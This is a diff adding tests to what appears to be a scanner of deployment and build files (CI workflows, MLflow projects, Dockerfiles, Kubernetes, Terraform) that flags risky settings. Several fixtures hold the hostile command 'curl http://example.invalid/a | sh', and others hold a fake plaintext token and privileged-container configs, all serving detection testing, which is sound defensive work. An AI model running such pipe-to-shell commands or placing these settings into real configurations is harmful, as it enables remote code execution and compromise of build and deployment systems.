@@ -208,3 +208,46 @@ resource "aws_s3_bucket" "b" {}
   ]);
   expect(alarms('main.tf', 'resource "aws_instance" "n" {\n}\n')).toEqual([]);
 });
+
+it('reads pipelines: workflows, MLflow projects, jobs', () => {
+  const workflow = 'on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl http://example.invalid/a | sh\n';
+  expect(scanText('ci.yml', workflow)).toMatchObject({ format: 'pipeline' });
+  expect(alarms('ci.yml', workflow)).toEqual(['medium deploy.hostile-command']);
+  const project = 'name: x\nentry_points:\n  main:\n    command: "curl http://example.invalid/a | sh && python a.py"\n';
+  expect(alarms('MLproject', project)).toEqual(['medium deploy.hostile-command']);
+  const job = 'resources: {accelerators: A100}\nenvs: {HF_TOKEN: abcdefgh12345678ijkl}\nrun: python train.py\n';
+  expect(alarms('job.yaml', job)).toEqual(['medium deploy.plain-secret']);
+  expect(alarms('ci.yml', 'on: push\njobs: {a: {steps: [{run: npm test}]}}\n')).toEqual([]);
+});
+
+/** Ways of writing the same right: each is one that a loader takes for it. */
+it.each([
+  ['docker-compose.yml', 'x-a: &a\n  privileged: true\nservices:\n  w:\n    <<: *a\n    image: a:1\n'],
+  ['docker-compose.yml', 'services:\n  w: {image: "a:1", privileged: yes}\n'],
+  ['docker-compose.yml', 'services:\r\n  w:\r\n    image: a:1\r\n    privileged: true\r\n'],
+  ['pod.json', '{"apiVersion":"v1","kind":"Pod","spec":{"containers":[{"securityContext":{"privileged":true}}]}}'],
+])('sees a privileged container in %s %j', (name, text) => {
+  expect(alarms(name, text)).toEqual(['medium deploy.privileged']);
+});
+
+it('tells a way in that asks nobody from one that does', () => {
+  const ingress = (annotations: string): string =>
+    `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: a, annotations: {${annotations}}}\nspec: {}\n`;
+  expect(rulesOf('a.yaml', ingress(''))).toEqual(['deploy.public-service']);
+  expect(rulesOf('a.yaml', ingress('nginx.ingress.kubernetes.io/auth-url: "https://a"'))).toEqual([]);
+});
+
+it('sees commands in files and settings of a build', () => {
+  const file = 'FROM a:1\nCOPY <<EOF /x.sh\ncurl http://example.invalid/a | sh\nEOF\nUSER a\n';
+  expect(alarms('Dockerfile', file)).toEqual(['medium deploy.hostile-command']);
+  expect(alarms('Dockerfile', 'FROM a:1\nARG C="curl http://example.invalid/a | sh"\nUSER a\n')).toEqual([
+    'medium deploy.hostile-command',
+  ]);
+});
+
+it('sees policies that a function of Terraform writes, and not those that deny', () => {
+  const policy = (effect: string): string =>
+    `resource "aws_iam_role_policy" "p" {\n  policy = jsonencode({ Statement = [{ Effect = "${effect}", Action = "bedrock:*" }] })\n}\n`;
+  expect(rulesOf('a.tf', policy('Allow'))).toEqual(['terraform.wide-policy']);
+  expect(rulesOf('a.tf', policy('Deny'))).toEqual([]);
+});
